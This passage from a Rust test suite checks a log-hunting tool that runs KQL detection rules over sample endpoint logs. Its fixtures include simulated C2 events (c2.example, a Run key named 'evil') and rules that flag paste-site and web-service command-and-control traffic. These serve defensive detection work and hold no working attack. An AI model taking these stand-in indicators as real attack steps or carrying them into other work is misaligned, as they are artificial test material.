//! The binary as a user runs it: standard output, standard error, exit status.

mod common;

use common::{batch, root, text, vidette};
use std::process::{Command, Output};

fn alerts(output: &Output) -> Vec<serde_json::Value> {
    text(&output.stdout).lines().map(|line| serde_json::from_str(line).expect("an alert is a JSON line")).collect()
}

#[test]
fn a_hopeless_query_reads_nothing() {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join("half.evtx"), b"ElfFile\0 and no more").expect("a file");
    let paths = folder.path().to_str().expect("a path");
    let read = vidette(&["query", "print 1", paths]);
    assert!(text(&read.stderr).contains("skipped"), "the file is a problem once it is read: {}", text(&read.stderr));
    for query in ["DeviceEvents | wher x", "DeviceEvents | where NoSuchColumn == 1", "NoSuchTable | count"] {
        let output = vidette(&["query", query, paths]);
        assert_eq!(output.status.code(), Some(2), "{query}");
        let errors = text(&output.stderr);
        assert!(errors.starts_with("error[") && !errors.contains("skipped"), "{query}: {errors}");
    }
}

#[test]
fn every_table_is_read_where_none_is_named() {
    // `Operation` and `OperationName` are columns of known tables that have no rows here.
    let queries = [
        ("union * | extend Action = coalesce(Operation, OperationName, ActionType) | where Action == 'DnsQueryResponse' | count", 20),
        ("search 'DnsQueryResponse' | where Operation == '' | where $table startswith 'Device' | count", 20),
        ("search * | where ActionType == 'DnsQueryResponse' | count", 20),
        ("find where ActionType == 'DnsQueryResponse' or Operation == 'x' | count", 20),
    ];
    for (query, rows) in queries {
        let output = vidette(&["query", query, "samples/"]);
        assert_eq!(text(&output.stdout).trim(), format!(r#"{{"Count":{rows}}}"#), "{query}: {}", text(&output.stderr));
    }
    let output = vidette(&["query", "union * | where NoSuchColumn == 1", "samples/"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(text(&output.stderr).contains("unknown name `NoSuchColumn`"));
}

#[test]
fn hunt_finds_the_four_tests_and_nothing_benign() {
    let output = vidette(&["hunt", "samples/"]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let alerts = alerts(&output);
    let hardened: Vec<&serde_json::Value> = alerts.iter().filter(|alert| alert["ruleName"] == "Bidirectional communication over web services").collect();
    let host = |alert: &serde_json::Value| alert["rows"][0]["DeviceName"].as_str().unwrap_or_default().to_owned();
    let mut devices: Vec<String> = hardened.iter().map(|alert| host(alert)).collect();
    devices.sort();
    devices.dedup();
    assert_eq!(devices, ["dev-lt-19.contoso.example", "srv-app-01.contoso.example", "wks-fin-07.contoso.example", "wks-hr-02.contoso.example"]);
    assert!(hardened.iter().all(|alert| alert["severity"] == "High"));
    let baseline: Vec<String> = alerts.iter().filter(|alert| alert["ruleName"].as_str().unwrap_or_default().contains("baseline")).map(host).collect();
    assert_eq!(baseline, ["wks-hr-02.contoso.example", "wks-hr-02.contoso.example"], "the baseline sees the two connections to the paste site only");
    assert!(text(&output.stderr).contains("6 files, 59 events"));
}

#[test]
fn batch_answers_each_line_over_the_files_it_is_given() {
    let lines = "{\"id\": 1, \"query\": \"DeviceProcessEvents | summarize n = count() | project some = n > 0\"}\n{\"id\": 2, \"query\": \"print todynamic(dynamic({})), nope\"}\n";
    let answers = alerts(&batch(&["samples/"], lines));
    assert_eq!(answers[0], serde_json::json!({"id": 1, "columns": [{"name": "some", "type": "bool"}], "rows": [[true]]}));
    assert_eq!(answers[1], serde_json::json!({"id": 2, "error": "error[KS142]: unknown name `nope`"}));
}

#[test]
fn hunt_stays_quiet_on_the_benign_samples() {
    let output = vidette(&["hunt", "samples/benign.sysmon.jsonl", "samples/benign-portal-export.csv", "--fail-on-alert"]);
    assert_eq!(output.status.code(), Some(0));
    assert!(output.stdout.is_empty(), "{}", text(&output.stdout));
}

#[test]
fn exit_status_tells_alerts_wrong_queries_and_unreadable_input_apart() {
    let folder = tempfile::tempdir().expect("a folder for the test");
    let broken = folder.path().join("broken.jsonl");
    std::fs::write(&broken, "{\"Event\": oops}\n{\"no\": \"event\"}\n").expect("a file is written");
    assert_eq!(vidette(&["hunt", "samples/", "--fail-on-alert"]).status.code(), Some(1));
    assert_eq!(vidette(&["query", "DeviceEvents | wheree x", "samples/"]).status.code(), Some(2));
    assert_eq!(vidette(&["hunt", "no/such/folder"]).status.code(), Some(3));
    let output = vidette(&["hunt", broken.to_str().expect("a plain path")]);
    assert_eq!(output.status.code(), Some(3));
    assert!(text(&output.stderr).contains("broken.jsonl: line 1: not JSON"), "{}", text(&output.stderr));
    assert!(text(&output.stderr).contains("broken.jsonl: line 2: not a shape Vidette knows"));
}

#[test]
fn files_of_which_the_same_is_said_are_named_once() {
    let folder = tempfile::tempdir().expect("a folder for the test");
    for hour in 0..30 {
        std::fs::write(folder.path().join(format!("cut.{hour:02}.parquet")), "PAR1, and no more").expect("a file is written");
    }
    // A log that tells of nothing that is looked for is no loss.
    std::fs::write(folder.path().join("weird.log"), "#separator \\x09\n#path\tweird\n#fields\tts\tname\n1.5\tx\n").expect("a file is written");
    std::fs::write(folder.path().join("z.jsonl"), "{\"Event\": oops}\n").expect("a file is written");
    let output = vidette(&["query", "print 1", folder.path().to_str().expect("a plain path")]);
    let said = text(&output.stderr);
    let skipped: Vec<&str> = said.lines().filter(|line| line.starts_with("skipped: ")).collect();
    assert_eq!(skipped.len(), 2, "{said}");
    assert!(skipped.iter().any(|line| line.contains(".parquet and 29 more files: ")), "{said}");
}

#[test]
fn a_run_goes_on_when_nobody_reads_what_it_says() {
    let (reader, writer) = std::io::pipe().expect("a pipe");
    drop(reader);
    let command = ["query", "Nothing | count", "samples/"];
    let status = Command::new(env!("CARGO_BIN_EXE_vidette")).args(command).current_dir(root()).stderr(writer).status().expect("the binary runs");
    assert_eq!(status.code(), Some(2), "as with a reader");
}

#[cfg(unix)]
#[test]
fn a_folder_of_rules_that_links_to_itself_is_read_once() {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(
        folder.path().join("Rule.yaml"),
        "id: 3b7c5c0e-6a55-4a55-9b55-0b5f6f1f2a11\nname: Once\nkind: NRT\nseverity: Low\nquery: DeviceProcessEvents | where FileName =~ 'powershell.exe'\n",
    )
    .expect("a file");
    std::os::unix::fs::symlink(".", folder.path().join("again")).expect("a link");
    let output = vidette(&["hunt", "samples/", "--rules", folder.path().to_str().expect("a path")]);
    assert_eq!(text(&output.stderr).matches("Once").count(), 1, "{}", text(&output.stderr));
    let times: Vec<_> = alerts(&output).iter().map(|alert| alert["time"].to_string()).collect();
    assert!(!times.is_empty() && times.windows(2).all(|pair| pair[0] != pair[1]), "{times:?}");
}

#[test]
fn names_of_files_end_in_any_case() {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join("Hunt.KQL"), "DeviceEvents | where NoSuchColumn == 1").expect("a file");
    std::fs::write(folder.path().join("HUNT.MD"), "# Hunt\n```KQL\nDeviceEvents | where NoSuchColumn == 2\n```\n").expect("a file");
    let errors = text(&vidette(&["check", folder.path().to_str().expect("a path")]).stdout);
    assert!(errors.contains("Hunt.KQL:1") && errors.contains("HUNT.MD:3"), "{errors}");
}

#[test]
fn an_unknown_column_is_pointed_at_and_fixed() {
    let folder = tempfile::tempdir().expect("a folder for the test");
    let file = folder.path().join("q.kql");
    std::fs::write(&file, "DeviceNetworkEvents\n| project Timestamp, AccountName\n").expect("a file is written");
    let path = file.to_str().expect("a plain path");
    let output = vidette(&["check", path]);
    assert_eq!(output.status.code(), Some(2));
    let shown = text(&output.stdout);
    assert!(shown.contains("error[KS142]: unknown name `AccountName`") && shown.contains("2 | | project Timestamp, AccountName"), "{shown}");
    assert!(shown.contains("= help: a column with a similar name exists: `InitiatingProcessAccountName`"), "{shown}");
    assert_eq!(vidette(&["check", "--fix", path]).status.code(), Some(0));
    assert!(std::fs::read_to_string(&file).expect("the file is there").contains("InitiatingProcessAccountName"));
}

#[test]
fn rules_as_repositories_have_them_run_or_say_where_they_are_wrong() {
    let folder = tempfile::tempdir().expect("a folder");
    let write = |name: &str, text: &str| std::fs::write(folder.path().join(name), text).expect("a file");
    // Without kind and severity, with an empty list, a byte order mark and a function that is YAML; and one with a mistake.
    write(
        "old.yaml",
        "\u{feff}id: 5a2b3c4d-0000-4000-8000-000000000001\nname: Paste site\nqueryFrequency: 14d\nqueryPeriod: 14d\nentityMappings:\nquery: |\n  Contacts('paste') | where Host !in ((_GetWatchlist('Allowed') | project SearchKey))\n",
    );
    write(
        "contacts.yaml",
        "FunctionName: Contacts\nFunctionParams:\n- Name: what\n  Type: string\n  Default: '*'\nFunctionQuery: |\n  DeviceNetworkEvents\n  | where RemoteUrl contains what // any\n  | extend Host = DeviceName\n",
    );
    write(
        "wrong.yaml",
        "id: 5a2b3c4d-0000-4000-8000-000000000002\nkind: Scheduled\nname: Wrong\nseverity: Low\nqueryFrequency: 1h\nqueryPeriod: 1h\nquery: |\n\n    DeviceEvents\n    | where ActionTyp == 'x'\n",
    );
    write("hunt.yaml", "name: Many\nquery: DeviceNetworkEvents | count\n");
    // Two queries, as the portals tell them apart.
    write(
        "More.kql",
        "// Sentinel\nlet n = 1;\nDeviceProcessEvents\n| where FileName == 'nothing.exe'\n\n//Defender\nlet n = 2;\nDeviceProcessEvents | where FileNam == 'nothing.exe'",
    );
    write("page.md", "# Page\n\nWords.\n\n```KQL\nDeviceEvents\n| where ActionTyp == 'y'\n```\n");
    write("openapi.yaml", "swagger: 2.0\n");
    std::fs::write(folder.path().join("picture.md"), b"\xff\xfe no text").expect("a file");
    let place = folder.path().to_str().expect("a path");
    let output = vidette(&["hunt", "samples/", "--rules", place]);
    let told = text(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{told}");
    assert_eq!(alerts(&output).iter().map(|alert| alert["ruleName"].as_str().unwrap_or_default()).collect::<Vec<_>>(), ["Paste site"]);
    for part in [
        "old.yaml: no `kind`; taken for Scheduled",
        "old.yaml: no `severity`; taken for Medium",
        "openapi.yaml: neither a rule",
        "wrong.yaml:10:13\n   |\n10 |     | where ActionTyp == 'x'\n   |             ^^^^^^^^^",
        "no watchlist `Allowed`: it is empty",
        "4 hunting queries",
        "1 alert (Paste site: 1)",
    ] {
        assert!(told.contains(part), "{part}: {told}");
    }
    let annotated = text(&vidette(&["check", place, "--format", "github"]).stdout);
    assert!(annotated.contains("wrong.yaml,line=10,col=13,title=KS142::unknown name `ActionTyp`; not a column of DeviceEvents; "), "{annotated}");
    assert!(annotated.contains("page.md,line=7,col=9,title=KS142::"), "{annotated}");
    assert_eq!(vidette(&["check", "--fix", place]).status.code(), Some(0));
    assert!(std::fs::read_to_string(folder.path().join("wrong.yaml")).expect("the file").ends_with("\n    | where ActionType == 'x'\n"));
    assert!(std::fs::read_to_string(folder.path().join("More.kql")).expect("the file").ends_with("let n = 2;\nDeviceProcessEvents | where FileName == 'nothing.exe'"));
    let both = vidette(&["query", "--file", &folder.path().join("More.kql").display().to_string(), "samples/", "--format", "csv"]);
    assert_eq!((both.status.code(), text(&both.stdout).matches("Timestamp,").count()), (Some(0), 2), "{}", text(&both.stderr));
    let output = vidette(&["hunt", "samples/", "--rules", place, "--hunting"]);
    assert!(text(&output.stderr).contains("(Paste site: 1; Many: 1; 4 rules without)"), "{}", text(&output.stderr));
}

#[test]
fn what_is_wrong_inside_a_saved_function_is_told_at_its_call() {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join("f.kql"), "let Inner = () { DeviceEvents | where NoSuch == 1 };\nlet Outer = () { print 'a long text that comes first' | union (Inner) };")
        .expect("written");
    let output = vidette(&["query", "Outer | count", "--functions", folder.path().to_str().expect("a path")]);
    assert!(text(&output.stderr).contains("error[KS142]: unknown name `NoSuch`, within `Inner`\n --> query:1:1\n  |\n1 | Outer | count\n  | ^^^^^ "), "{}", text(&output.stderr));
}

#[test]
fn the_pack_binds() {
    let output = vidette(&["check", "packs/"]);
    assert_eq!(output.status.code(), Some(0), "{}{}", text(&output.stdout), text(&output.stderr));
}

#[test]
fn query_writes_every_format() {
    let query = "DeviceProcessEvents | summarize n = count() by FileName | top 1 by n";
    let run = |format: &str| text(&vidette(&["query", query, "samples/", "--format", format]).stdout);
    assert_eq!(run("csv"), "FileName,n\npowershell.exe,4\n");
    assert_eq!(run("ndjson"), "{\"FileName\":\"powershell.exe\",\"n\":4}\n");
    assert!(run("json").contains("\"type\":\"long\""));
    assert!(run("table").ends_with("1 row\n"));
}

#[test]
fn rows_are_written_as_they_come() {
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("rows.json");
    let path = file.to_str().expect("a path");
    // More than a batch, then a second result.
    let query = "range x from 1 to 20000 step 1 | extend t = strcat('\"', x, '\\n'), d = dynamic({\"a\": [1, null]}) | fork (where x > 0) (count)";
    let output = vidette(&["query", query, "--format", "json", "-o", path]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let written = std::fs::read_to_string(&file).expect("it is written");
    let results: Vec<serde_json::Value> = written.lines().map(|line| serde_json::from_str(line).expect("a result is a line of JSON")).collect();
    assert_eq!(results.len(), 2);
    assert_eq!(results[0]["rows"].as_array().map(Vec::len), Some(20_000));
    assert_eq!(results[0]["rows"][19_999], serde_json::json!([20_000, "\"20000\n", {"a": [1, null]}]));
    assert_eq!(results[1], serde_json::json!({"columns": [{"name": "Count", "type": "long"}], "rows": [[20_000]]}));
    let table = text(&vidette(&["query", "range x from 1 to 20000 step 1", "--format", "table"]).stdout);
    assert!(table.ends_with("20000 rows, of which the first 10000 are shown (--format csv or json writes all)\n"), "{}", &table[table.len() - 200..]);
    // A query that is wrong leaves the file as it was.
    assert_eq!(vidette(&["query", "NoSuchTable", "-o", path]).status.code(), Some(2));
    assert_eq!(std::fs::read_to_string(&file).expect("it is there"), written);
    let long = "range x from 1 to 2600000 step 1 | extend a = x, b = x, c = x";
    let line = serde_json::json!({"id": 1, "query": long}).to_string();
    let answer = text(&batch(&[], &line).stdout);
    assert!(answer.contains("more than 10000000 values"), "{}", answer.chars().take(200).collect::<String>());
}

#[test]
fn warnings_fail_a_check_that_denies_them() {
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("counted.kql");
    std::fs::write(&file, "DeviceEvents\n| summarize count(DeviceName)").expect("written");
    let path = file.to_str().expect("a path");
    for (arguments, status) in [(vec!["check", path], 0), (vec!["check", "--deny-warnings", path], 2)] {
        let output = vidette(&arguments);
        assert_eq!(output.status.code(), Some(status), "{}", text(&output.stderr));
        assert!(text(&output.stdout).contains("warning[KS107]") && text(&output.stderr).contains("1 query, 0 errors, 1 warning\n"), "{}", text(&output.stderr));
    }
}

#[test]
fn saved_functions_come_from_a_folder() {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join("helpers.kql"), "// two of them\nlet Twice = (n: long) { n * 2 };\nlet Hosts = () { datatable(host: string) ['a', 'b'] };").expect("written");
    std::fs::write(folder.path().join("BusyHosts.kql"), "let least = 1;\nHosts | where host != 'a' // the busy ones").expect("written");
    std::fs::write(folder.path().join("notes.txt"), "not KQL (").expect("written");
    let place = folder.path().to_string_lossy().into_owned();
    std::fs::create_dir(folder.path().join("Parsers")).expect("a folder");
    std::fs::write(folder.path().join("Parsers/Loud.txt"), "// Save it as a function.\n//\n\nHosts\n| extend host = toupper(host)").expect("written");
    let wrong = folder.path().join("wrong.kql");
    std::fs::write(&wrong, "let f = (").expect("written");
    for (query, row) in [("BusyHosts | extend n = Twice(21)", r#"{"host":"b","n":42}"#), ("Loud | take 1", r#"{"host":"A"}"#)] {
        let answer = vidette(&["query", query, "--functions", &place]);
        assert_eq!((text(&answer.stdout).trim(), answer.status.code()), (row, Some(0)), "{}", text(&answer.stderr));
        assert!(text(&answer.stderr).contains("warning[KS") && text(&answer.stderr).contains("wrong.kql:1:"), "{}", text(&answer.stderr));
        assert!(text(&answer.stderr).contains("notes.txt is no KQL; left alone"), "{}", text(&answer.stderr));
    }
    let refused = vidette(&["query", "print 1", "--functions", wrong.to_str().expect("a path")]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(text(&refused.stderr).contains("wrong.kql:1:"), "{}", text(&refused.stderr));
}

#[test]
fn external_data_is_refused_with_what_to_do_and_read_from_a_local_copy() {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join("feed.csv"), "ip,name\n10.0.0.1,first\n10.0.0.2,\"second, quoted\"\n").expect("a file");
    let query = "externaldata(ip: string, name: string) [@'https://example.org/data/feed.csv?x=1'] with (format='csv', ignoreFirstRecord=true) | where ip has '10.0.0.2'";
    let refused = vidette(&["query", query]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(text(&refused.stderr).contains("put a copy named `feed.csv` into a folder, and give it with --external"), "{}", text(&refused.stderr));
    let read = vidette(&["query", query, "--external", &folder.path().to_string_lossy()]);
    assert_eq!(text(&read.stdout), "{\"ip\":\"10.0.0.2\",\"name\":\"second, quoted\"}\n");
    std::fs::write(folder.path().join("calls.json"), "{\"at\": \"2024-01-02\",\n \"data\": {\"n\": 7}} {\"at\": \"2024-01-03\"}").expect("a file");
    let mapping = r#"[{"Column":"n","Properties":{"Path":"$.data.n"}}]"#;
    let query = format!("externaldata(at: datetime, n: long) ['https://example.org/calls.json'] with (format='multijson', ingestionMapping='{mapping}')");
    let read = vidette(&["query", &query, "--external", &folder.path().to_string_lossy()]);
    assert_eq!(text(&read.stdout), "{\"at\":\"2024-01-02T00:00:00.0000000Z\",\"n\":7}\n{\"at\":\"2024-01-03T00:00:00.0000000Z\",\"n\":null}\n", "{}", text(&read.stderr));
}

#[test]
fn platform_functions_read_the_samples() {
    let output = vidette(&["query", "_Im_ProcessEvent(commandline_has_any=dynamic(['pastebin.com'])) | summarize n = count() by EventSchema", "samples/"]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let output = vidette(&["query", "DeviceProcessEvents | take 1 | invoke FileProfile(SHA1, 100) | project GlobalPrevalence", "samples/"]);
    assert_eq!(text(&output.stdout), "{\"GlobalPrevalence\":null}\n", "{}", text(&output.stderr));
    let output = vidette(&["query", "search 'pastebin' | summarize by $table | sort by $table asc", "samples/"]);
    assert!(text(&output.stdout).contains("DeviceNetworkEvents"), "{}", text(&output.stdout));
}

/// One event of every kind that ASIM's parsers read, as Defender streams them.
const EVENTS: [(&str, &str); 6] = [
    (
        "DeviceEvents",
        r#""ActionType":"DnsQueryResponse","AdditionalFields":"{\"DnsQueryString\":\"c2.example\",\"DnsStatus\":\"9003\",\"DnsQueryResult\":[{\"Result\":\"203.0.113.9\"}]}""#,
    ),
    (
        "DeviceNetworkEvents",
        r#""ActionType":"ConnectionSuccess","RemoteUrl":"https://c2.example:8443/x","RemoteIP":"203.0.113.9","RemotePort":8443,"LocalIP":"10.0.0.5","LocalPort":50000,"Protocol":"TcpV4""#,
    ),
    (
        "DeviceProcessEvents",
        r#""ActionType":"ProcessCreated","FolderPath":"C:\\t\\a.exe","FileName":"a.exe","ProcessCommandLine":"a.exe --to 203.0.113.9","AccountName":"eve","SHA1":"00ff00ff00ff00ff00ff00ff00ff00ff00ff00ff","InitiatingProcessParentFileName":"p.exe""#,
    ),
    (
        "DeviceFileEvents",
        r#""ActionType":"FileRenamed","FolderPath":"C:\\t\\new.txt","FileName":"new.txt","PreviousFolderPath":"C:\\t\\old","PreviousFileName":"old.txt","RequestSourceIP":"203.0.113.9","MD5":"00ff00ff00ff00ff00ff00ff00ff00ff""#,
    ),
    (
        "DeviceRegistryEvents",
        r#""ActionType":"RegistryValueDeleted","PreviousRegistryKey":"HKEY_LOCAL_MACHINE\\SOFTWARE\\Run","PreviousRegistryValueName":"evil","RegistryValueType":"Dword","RegistryValueData":"77""#,
    ),
    ("DeviceLogonEvents", r#""ActionType":"LogonFailed","AccountName":"eve","FailureReason":"InvalidUserNameOrPassword","RemoteIP":"203.0.113.9","RemoteDeviceName":"far""#),
];

/// Parameters that are neither texts nor lists of them: of which parser (of all), what lets the event through, and what does not.
const RAW: [(&str, &str, &str, &str); 4] = [
    ("", "starttime", "datetime(2026-01-01)", "datetime(2026-02-01)"),
    ("", "endtime", "datetime(2026-02-01)", "datetime(2026-01-01)"),
    ("_Im_NetworkSession", "dstportnumber", "8443", "443"),
    ("_Im_FileEvent", "disabled", "false", "true"),
];

#[test]
fn every_parameter_of_an_asim_parser_filters() {
    let folder = tempfile::tempdir().expect("a folder");
    let both = r#""Timestamp":"2026-01-02T03:04:05Z","DeviceId":"d1","DeviceName":"pc.corp.example","InitiatingProcessFolderPath":"C:\\t\\tool.exe","InitiatingProcessAccountDomain":"corp","InitiatingProcessAccountName":"adam""#;
    let line = |(table, fields): (&str, &str)| format!("{{\"time\":\"2026-01-02T03:04:05Z\",\"category\":\"AdvancedHunting-{table}\",\"properties\":{{{both},{fields}}}}}\n");
    std::fs::write(folder.path().join("events.jsonl"), EVENTS.map(line).concat()).expect("a file");
    // By parameter: what lets the event through, and what does not.
    let list = |value: &str| format!("dynamic(['{value}'])");
    let parsers: [(&str, &[(&str, &str)]); 6] = [
        (
            "_Im_Dns",
            &[
                ("domain_has_any[]", "c2.example"),
                ("responsecodename", "NXDOMAIN"),
                ("response_has_ipv4", "203.0.113.9"),
                ("response_has_any_prefix[]", "203.0."),
                ("srcipaddr", "*"),
                ("eventtype", "Query"),
            ],
        ),
        (
            "_Im_NetworkSession",
            &[
                ("srcipaddr_has_any_prefix[]", "10."),
                ("dstipaddr_has_any_prefix[]", "203."),
                ("ipaddr_has_any_prefix[]", "203."),
                ("hostname_has_any[]", "c2.example"),
                ("eventresult", "Success"),
                ("dvcaction[]", ""),
            ],
        ),
        (
            "_Im_ProcessEvent",
            &[
                ("commandline_has_any[]", "--to"),
                ("commandline_has_all[]", "to"),
                ("commandline_has_any_ip_prefix[]", "203."),
                ("actingprocess_has_any[]", "tool.exe"),
                ("targetprocess_has_any[]", "a.exe"),
                ("parentprocess_has_any[]", "p.exe"),
                ("targetusername", "eve"),
                ("targetusername_has", "eve"),
                ("actorusername", "adam"),
                ("actorusername_has", "adam"),
                ("dvcipaddr_has_any_prefix[]", ""),
                ("dvcname_has_any[]", "pc.corp.example"),
                ("dvchostname_has_any[]", "pc"),
                ("hashes_has_any[]", "00ff00ff00ff00ff00ff00ff00ff00ff00ff00ff"),
                ("eventtype", "ProcessCreated"),
            ],
        ),
        (
            "_Im_FileEvent",
            &[
                ("eventtype_in[]", "FileRenamed"),
                ("srcipaddr_has_any_prefix[]", "203."),
                ("actorusername_has_any[]", "adam"),
                ("targetfilepath_has_any[]", "new.txt"),
                ("srcfilepath_has_any[]", "old"),
                ("hashes_has_any[]", "00ff00ff00ff00ff00ff00ff00ff00ff"),
                ("dvchostname_has_any[]", "pc"),
            ],
        ),
        (
            "_Im_RegistryEvent",
            &[
                ("eventtype_in[]", "RegistryValueDeleted"),
                ("actorusername_has_any[]", "adam"),
                ("registrykey_has_any[]", "Run"),
                ("registryvalue_has_any[]", "evil"),
                ("registryvaluedata_has_any[]", "77"),
                ("dvchostname_has_any[]", "pc"),
            ],
        ),
        (
            "_Im_Authentication",
            &[
                ("username_has_any[]", "eve"),
                ("targetusername_has", "eve"),
                ("targetappname_has_any[]", ""),
                ("srcipaddr_has_any_prefix[]", "203."),
                ("srchostname_has_any[]", "far"),
                ("eventtype_in[]", "Logon"),
                ("eventresultdetails_in[]", "No such user or password"),
                ("eventresult", "Failure"),
            ],
        ),
    ];
    let mut queries = Vec::new();
    for (parser, parameters) in parsers {
        let mut cases: Vec<(&str, String, String)> =
            RAW.iter().filter(|(of, ..)| of.is_empty() || *of == parser).map(|(_, name, hit, miss)| (*name, (*hit).to_owned(), (*miss).to_owned())).collect();
        for (name, hit) in parameters {
            cases.push(match name.strip_suffix("[]") {
                Some(name) => (name, if hit.is_empty() { "dynamic([])".to_owned() } else { list(hit) }, list("198.51.100.7")),
                None => (name, format!("'{hit}'"), "'198.51.100.7'".to_owned()),
            });
        }
        for (name, hit, miss) in cases {
            queries.push(format!("({parser}({name}={hit}) | summarize n = count() | extend case_ = '{parser} {name}', right = n == 1)"));
            queries.push(format!("({parser}({name}={miss}) | summarize n = count() | extend case_ = '{parser} {name} missed', right = n == 0)"));
        }
    }
    assert!(queries.len() > 90, "{}", queries.len());
    // A query has an end: a parser at a time.
    for part in queries.chunks(24) {
        let query = format!("union {} | where not(right) | project case_, n", part.join(", "));
        let output = vidette(&["query", &query, folder.path().to_str().expect("a path")]);
        assert_eq!((text(&output.stdout).as_str(), text(&output.stderr).contains("error")), ("", false), "{}", text(&output.stderr));
    }
}

#[test]
fn coverage_says_which_rules_can_fire_and_why_not() {
    let output = vidette(&["coverage", "samples/", "--format", "json"]);
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!((&report["rules"][0]["canFire"], &report["rules"][1]["canFire"]), (&"yes".into(), &"in part".into()), "{report}");
    assert_eq!(report["rules"][1]["why"][0], "DeviceEvents has no row of PowerShellCommand");
    assert_eq!(report["hosts"].as_array().map(Vec::len), Some(4));
    // Without DNS and with no network names, the hardened rule still has the command lines.
    let folder = tempfile::tempdir().expect("a folder");
    let process = r#"{"Timestamp":"2026-03-10T08:00:00Z","Type":"DeviceProcessEvents","DeviceName":"h","ActionType":"ProcessCreated","FileName":"a.exe","ProcessCommandLine":"a"}"#;
    std::fs::write(folder.path().join("p.jsonl"), process).expect("a file");
    let output = vidette(&["coverage", &folder.path().to_string_lossy(), "--format", "ndjson"]);
    let rules: Vec<serde_json::Value> = text(&output.stdout).lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    assert_eq!(rules[0]["canFire"], "no", "{rules:?}");
    assert_eq!(rules[0]["why"][0], "no rows in DeviceNetworkEvents");
    assert_eq!((&rules[1]["canFire"], &rules[1]["why"][1]), (&"in part".into(), &"no rows in DeviceEvents".into()), "{rules:?}");
}

/// The files under a folder.
fn walk(folder: &std::path::Path) -> Vec<std::path::PathBuf> {
    let entries = std::fs::read_dir(folder).expect("a folder").map(|entry| entry.expect("an entry").path());
    entries.flat_map(|path| if path.is_dir() { walk(&path) } else { vec![path] }).collect()
}

#[test]
fn a_folder_that_was_ingested_gives_the_same_alerts() {
    let folder = tempfile::tempdir().expect("a folder");
    let store = folder.path().join("store").to_string_lossy().into_owned();
    let output = vidette(&["ingest", "samples/", "--to", &store]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let titles = |paths: &str| -> Vec<String> {
        let output = vidette(&["hunt", paths, "--format", "json"]);
        let alerts: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
        alerts["alerts"].as_array().into_iter().flatten().map(|alert| format!("{} {}", alert["time"], alert["title"])).collect()
    };
    let direct = titles("samples/");
    assert!(!direct.is_empty());
    assert_eq!(titles(&store), direct);
    let report = |command: &str, paths: &str| text(&vidette(&[command, paths, "--format", "json"]).stdout);
    let tables = report("tables", &store);
    assert!(tables.contains(r#"{"table":"DeviceProcessEvents","rows":14,"first":"2026-03-10T08:00:10.0120000Z","last":"2026-03-10T13:47:20.1234567Z","devices":4}"#), "{tables}");
    assert!(tables.contains(r#"{"signal":"DNS query","events":19}"#), "{tables}");
    assert_eq!(tables, report("tables", "samples/"));
    assert_eq!(report("coverage", &store), report("coverage", "samples/"));
    // A part that is damaged leaves the others.
    let parts = walk(&folder.path().join("store/WindowsEvent"));
    std::fs::write(folder.path().join("whole"), std::fs::read(&parts[0]).expect("a part")).expect("a copy");
    std::fs::write(&parts[0], b"PAR1 but nothing more").expect("a part");
    for command in ["tables", "coverage"] {
        let output = vidette(&[command, &store, "--format", "json"]);
        assert_eq!(output.status.code(), Some(3), "{command}");
        assert!(text(&output.stdout).starts_with('{') && text(&output.stderr).contains(&parts[0].to_string_lossy().into_owned()), "{command}: {}", text(&output.stderr));
    }
    std::fs::rename(folder.path().join("whole"), &parts[0]).expect("the part again");
    // What could not be read is no file that was read.
    let broken = folder.path().join("broken.zip");
    std::fs::write(&broken, b"PK\x03\x04 not really").expect("a file");
    for _ in 0..2 {
        let output = vidette(&["ingest", &broken.to_string_lossy(), "--to", &store]);
        assert_eq!(output.status.code(), Some(3), "{}", text(&output.stderr));
    }
    let again = vidette(&["ingest", "samples/", "--to", &store]);
    assert!(text(&again.stderr).contains("0 files (6 known before"), "{}", text(&again.stderr));
}

#[test]
fn a_copy_of_a_log_gives_no_alert_twice() {
    let folder = tempfile::tempdir().expect("a folder");
    let sample = std::fs::read(root().join("samples/test1-dropbox-powershell.sysmon.jsonl")).expect("a sample");
    let alerts = |files: &[&str]| {
        files.iter().for_each(|name| std::fs::write(folder.path().join(name), &sample).expect("a file"));
        let output = text(&vidette(&["hunt", &folder.path().to_string_lossy(), "--format", "ndjson"]).stdout);
        let alerts = output.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).expect("JSON"));
        alerts.map(|alert| format!("{} {} {}", alert["time"], alert["title"], alert["customDetails"]["Events"])).collect::<Vec<_>>()
    };
    let once = alerts(&["a.jsonl"]);
    assert!(!once.is_empty());
    assert_eq!(alerts(&["a.jsonl", "copy.jsonl"]), once);
}

/// What the hardened rule says of one event.
fn hardened(event: &str) -> Vec<String> {
    let folder = tempfile::tempdir().expect("a folder");
    std::fs::write(folder.path().join("event.jsonl"), event).expect("a file");
    let output = vidette(&["hunt", &folder.path().to_string_lossy(), "--format", "ndjson"]);
    let lines = text(&output.stdout);
    let alerts = lines.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).expect("JSON"));
    alerts.filter(|alert| alert["ruleName"] == "Bidirectional communication over web services").map(|alert| format!("{} {}", alert["severity"], alert["title"])).collect()
}

#[test]
fn script_blocks_jobs_and_sensors_are_evidence_too() {
    let event = |provider: &str, id: u32, data: &str| {
        format!(
